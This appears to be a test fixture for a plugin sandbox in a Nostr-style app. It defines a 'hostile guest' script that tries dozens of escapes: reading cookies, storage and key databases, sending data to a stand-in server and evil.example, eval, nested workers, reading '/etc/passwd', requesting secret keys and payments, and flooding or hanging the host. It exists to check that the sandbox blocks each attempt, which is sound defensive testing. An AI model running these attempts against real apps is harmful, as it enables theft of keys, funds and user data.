/** The code of a guest that answers another guest if it can hear it. */
export const LISTENING_GUEST_CODE = `
  const channel = self.BroadcastChannel && new BroadcastChannel('meet')
  if (channel) channel.onmessage = () => channel.postMessage('hello too')
  pinion.view('listen', () => 'Listening')
`

/**
 * The code of a guest that tries to escape from its sandbox: to read stored data, to reach a stranger, to run text as
 * code, and to touch the page. `stranger` is the address of a server that must never be reached. The code runs in the
 * guest's worker.
 */
export const createHostileGuestCode = (stranger: string, app: string, udpPort: number): string => `
const STRANGER = '${stranger}', APP = '${app}', UDP = ${udpPort}
const results = {}
const within = (work, ms) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('nothing within ' + ms + ' ms')), ms))])
const blob = text => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
const event = (target, good, bad = 'error') => new Promise((resolve, reject) => {
  target.addEventListener(good, () => resolve(good)); target.addEventListener(bad, () => reject(new Error(bad))) })
const must = value => { if (value) return value; throw new Error('absent') }
const attempts = {
  'read localStorage': () => localStorage.length,
  'read sessionStorage': () => sessionStorage.length,
  'read cookies': () => document.cookie,
  'read the cookie store': () => cookieStore.getAll(),
  'write a cookie': () => cookieStore.set('a', 'b'),
  'open the keys’ database': () => new Promise((resolve, reject) => { const r = indexedDB.open('pinion-plugin-accounts'); r.onsuccess = resolve; r.onerror = () => reject(r.error) }),
  'list the databases': async () => { const all = await indexedDB.databases(); if (all.length === 0) throw new Error('none'); return all.length },
  'list the caches': async () => { const all = await caches.keys(); if (all.length === 0) throw new Error('none'); return all.length },
  'open the file system': () => navigator.storage.getDirectory(),
  'ask for locks': () => navigator.locks.query(),
  'request a lock': () => navigator.locks.request('pinion', () => 'held'),
  'hear the app’s channels': () => new Promise(resolve => { for (const name of ['pinion', 'pinion/settings', 'pinion-accounts']) { const c = new BroadcastChannel(name); c.onmessage = resolve; c.postMessage('x') } }),
  'reach a shared worker': () => event(new SharedWorker(blob('')), 'connect'),
  'register a service worker': () => navigator.serviceWorker.register(APP + '/service-worker.js'),
  'find service workers': () => navigator.serviceWorker.getRegistrations(),
  'fetch from the stranger': () => fetch(STRANGER + '/fetch', { mode: 'no-cors' }),
  'fetch with keepalive': () => fetch(STRANGER + '/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  'fetch from the app': () => fetch(APP + '/config.json'),
  'fetch a data address': () => fetch('data:text/plain,x'),
  'fetch a blob address': () => fetch(blob('x')),
  'XMLHttpRequest': () => { const x = new XMLHttpRequest(); x.open('GET', STRANGER + '/xhr'); x.send(); return event(x, 'load') },
  'synchronous XMLHttpRequest': () => { const x = new XMLHttpRequest(); x.open('GET', STRANGER + '/sync', false); x.send(); return x.status },
  'WebSocket': () => event(new WebSocket(STRANGER.replace('http', 'ws') + '/ws'), 'open'),
  'WebSocketStream': () => new WebSocketStream(STRANGER.replace('http', 'ws') + '/wss').opened,
  'EventSource': () => event(new EventSource(STRANGER + '/events'), 'open'),
  'WebTransport': () => new WebTransport(STRANGER.replace('http', 'https') + '/wt').ready,
  'RTCPeerConnection': () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); c.createDataChannel('x'); return c.createOffer().then(o => c.setLocalDescription(o)) },
  'UDPSocket': () => new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: UDP }).opened,
  'sendBeacon': () => must(navigator.sendBeacon(STRANGER + '/beacon', 'x')),
  'a font': () => new FontFace('x', 'url(' + STRANGER + '/font)').load(),
  'a font in a worker within': () => new Promise((resolve, reject) => { const w = new Worker(blob("new FontFace('x', 'url(" + STRANGER + "/nested-font)').load().then(()=>postMessage(1),()=>postMessage(0))")); w.onmessage = () => resolve('ran'); w.onerror = () => reject(new Error('worker error')) }),
  'a font of the prototype': () => { for (let o = self; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'FontFace') ?? Object.getOwnPropertyDescriptor(o, 'fonts'); if (d?.value || d?.get) return 'found' } throw new Error('absent') },
  'fetch of the prototype': () => WorkerGlobalScope.prototype.fetch.call(self, STRANGER + '/prototype', { mode: 'no-cors' }),
  'a filter of a canvas': () => { const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + STRANGER + '/filter.svg#x)'; c.fillRect(0, 0, 9, 9); return must(c.filter !== 'none') },
  'putting fetch back': () => { self.fetch = 1; return must(self.fetch) },
  'a picture': () => { const i = new Image(); i.src = STRANGER + '/image'; return event(i, 'load') },
  'importScripts': () => importScripts(STRANGER + '/script.js'),
  'importScripts of the app': () => importScripts(APP + '/service-worker.js'),
  'importScripts of text': () => importScripts('data:text/javascript,self.ran=1'),
  'import': () => import(STRANGER + '/module.js'),
  'import of text': () => import('data:text/javascript,export default 1'),
  'eval': () => (0, eval)('1+1'),
  'Function': () => new Function('return 1')(),
  'AsyncFunction': () => (async () => {}).constructor('return 1')(),
  'a generator’s constructor': () => (function* () {}).constructor('yield 1')().next(),
  'a timer of text': () => new Promise(resolve => { self.timer = resolve; setTimeout("self.timer('ran')", 0) }),
  'WebAssembly': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'a worker of the stranger': () => event(new Worker(STRANGER + '/worker.js'), 'message'),
  'a worker of the app': () => event(new Worker(APP + '/assets/engine.worker.js'), 'message'),
  'a worker within, which fetches': () => new Promise((resolve, reject) => { const w = new Worker(blob("fetch('" + STRANGER + "/nested',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))")); w.onmessage = ({ data }) => (data ? resolve('sent') : reject(new Error('refused'))); w.onerror = () => reject(new Error('worker error')) }),
  'a worker within, which evaluates': () => new Promise((resolve, reject) => { const w = new Worker(blob("try{postMessage((0,eval)('1'))}catch{postMessage(0)}")); w.onmessage = ({ data }) => (data ? resolve('ran') : reject(new Error('refused'))); w.onerror = () => reject(new Error('worker error')) }),
  'the page': () => must(self.document),
  'the parent': () => must(self.parent),
  'the top': () => must(self.top),
  'the opener': () => must(self.opener),
  'frames': () => must(self.frames),
  'another address': () => { self.location.href = STRANGER + '/navigate'; return must(self.location.href.startsWith(STRANGER)) },
  'a window': () => must(self.open)(STRANGER + '/window'),
  'a dialog': () => must(self.alert)('x'),
  'window.nostr': () => must(self.nostr),
  'window.webln': () => must(self.webln),
  'the clipboard': () => navigator.clipboard.readText(),
  'the place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'a notification': async () => { if (Notification.permission !== 'granted') throw new Error('not granted') },
  'push': () => must(self.PushManager && self.registration),
  'a credential': () => navigator.credentials.get({}),
  'USB devices': async () => must((await navigator.usb.getDevices()).length),
  'HID devices': async () => must((await navigator.hid.getDevices()).length),
  'serial ports': async () => must((await navigator.serial.getPorts()).length),
  'Bluetooth': () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
  'a payment': () => new PaymentRequest([{ supportedMethods: STRANGER }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show(),
  'the call sign': () => raw('sign', {}), 'the call decrypt': () => raw('decrypt', 'x'), 'the call nsec': () => raw('nsec'),
  'the call publish': () => raw('publish', { kind: 1, content: 'x', tags: [] }), 'the call query': () => raw('query', {}),
  'the call fetch': () => raw('fetch', STRANGER + '/call'), 'the call pay': () => raw('pay', 'lnbc1'),
  'the call __proto__': () => raw('__proto__'), 'the call constructor': () => raw('constructor', 'return 1'),
  'the call toString': () => raw('toString'), 'the call hasOwnProperty': () => raw('hasOwnProperty', 'toast'),
  'the call me': () => raw('me'), 'the call settings': () => raw('settings', { a: 1 }), 'the call install': () => raw('install', {}),
  'reading its own permissions': () => raw('get', ' publish'), 'writing its own permissions': () => raw('set', ' publish', [1]),
  'publishing a profile': () => raw('publish', { kind: 0, content: '{}' }), 'publishing a follow list': () => raw('publish', { kind: 3 }),
  'publishing a login': () => raw('publish', { kind: 27235 }), 'publishing a list as its kind': () => raw('publish', { kind: [1] }),
  'fetching by a list': () => raw('fetch', [STRANGER]), 'fetching with a user': () => raw('fetch', STRANGER.replace('//', '//a:b@')),
  'fetching a file': () => raw('fetch', 'file:///etc/passwd'), 'fetching without a scheme': () => raw('fetch', '//127.0.0.1/'),
  'paying by a link': () => raw('pay', 'lightning:lnbc1'), 'paying an object': () => raw('pay', { toString: () => 'lnbc1' }),
  'reading messages': () => raw('query', 1, { kinds: [4] }), 'reading all kinds': () => raw('query', 2, {}),
  'reading from a relay': () => raw('query', 3, { kinds: [1], relays: [STRANGER.replace('http', 'ws')] }),
  'another guest': () => new Promise(resolve => { const c = new BroadcastChannel('meet'); c.onmessage = () => resolve('met'); c.postMessage('hello') }),
  'another guest’s data': () => raw('get', '../x-local-listener/secret'),
}
let port, calls = 1e6
const answers = new Map()
addEventListener('message', ({ ports: [given] }) => {
  port = given
  given.addEventListener('message', ({ data }) => { const [name, id, isDone, value] = JSON.parse(data); if (name === 'answer') answers.get(id)?.(isDone, value) })
})
const raw = (method, ...args) => new Promise((resolve, reject) => {
  const id = ++calls
  answers.set(id, (isDone, value) => (isDone ? resolve(value) : reject(new Error(value))))
  port.postMessage(JSON.stringify(['call', id, method, args]))
})
const run = async redraw => {
  results.origin = self.origin === 'null' ? 'refused: none' : 'DONE: ' + self.origin
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try { results[name] = 'DONE: ' + String(await within((async () => attempt())(), 4000)).slice(0, 80) }
    catch (error) { results[name] = 'refused: ' + String(error?.message ?? error).slice(0, 80) }
  }))
  results.finished = 'refused: nothing left'
  redraw()
}
let running
pinion.view('report', (props, state, redraw) => {
  running ??= run(redraw)
  return ['column', {}, ['text', {}, results.finished ? 'All attempts made' : 'Trying'], ['code', { title: 'Report', text: JSON.stringify(results) }],
    ['script', { src: STRANGER + '/element' }, 'self.wasRun = 1'], ['iframe', { src: STRANGER + '/iframe', srcdoc: '<script>1</script>' }, 'frame words'],
    ['text', { class: 'x', style: 'background:url(' + STRANGER + '/style)', onclick: 'self.wasRun=1', dangerouslySetInnerHTML: { __html: '<img src=x>' } }, '<b>plain</b>'],
    ['picture', { url: STRANGER + '/picture?secret=1', alt: 'a picture' }],
    ['link', { to: 'javascript:self.wasRun=1' }, 'script link'], ['link', { to: 'data:text/html,x' }, 'data link'],
    ['link', { to: '//127.0.0.1/x' }, 'other host link'], ['link', { to: '/\\\\127.0.0.1/x' }, 'backslash link'], ['link', { to: '/\\t/127.0.0.1/x' }, 'tab link'], ['link', { to: '/relay/wss%3A%2F%2Fevil.example%2Fsecret' }, 'relay link'],
    ['person', { pubkey: 'e'.repeat(64), picture: true }], ['note', { id: 'e'.repeat(64) }], ['link', { to: STRANGER + '/plain' }, 'plain link'],
    ['link', { to: 'https://example.org/made?secret=1' }, 'made link'], ['rich', { text: 'See ' + STRANGER + '/rich.png and <img src=x>' }]]
})
const acts = {
  loop() { for (;;); },
  flood() { for (;;) port.postMessage('["pong",1]') },
  object() { port.postMessage({ 0: 'pong', length: 2 }) },
  cyclic() { const a = []; a.push(a); port.postMessage(a) },
  long() { port.postMessage('["pong",' + ' '.repeat(600000) + '1]') },
  deep() { port.postMessage('['.repeat(100000)) },
  name() { port.postMessage('["__proto__",1]') },
  crash() { setTimeout(() => { throw new Error('on purpose') }) },
}
pinion.view('acts', (props, state) => ['row', {}, ['field', { act: 'typed', label: 'Typed' }], ...Object.keys(acts).map(name => ['button', { act: name }, name])])
for (const [name, act] of Object.entries(acts)) pinion.act(name, act)
const trees = {
  large: () => ['list', {}, ...Array(600).fill(['item', {}, 'x'])],
  sunk: () => { let tree = 'x'; for (let i = 0; i < 40; i++) tree = ['column', {}, tree]; return tree },
  endless: () => { const a = ['column', {}]; a.push(a); return a },
  wordy: () => ['text', {}, 'x'.repeat(150000)],
  wrong: () => ['switch', { act: 'a', label: 'b', on: 'yes' }],
  nobody: () => ['person', { pubkey: 'x' }],
  thrown: () => { throw new Error('no eggs') },
}
for (const [name, tree] of Object.entries(trees)) pinion.view(name, tree)
pinion.view('after', () => ['text', {}, 'Still here'])
`
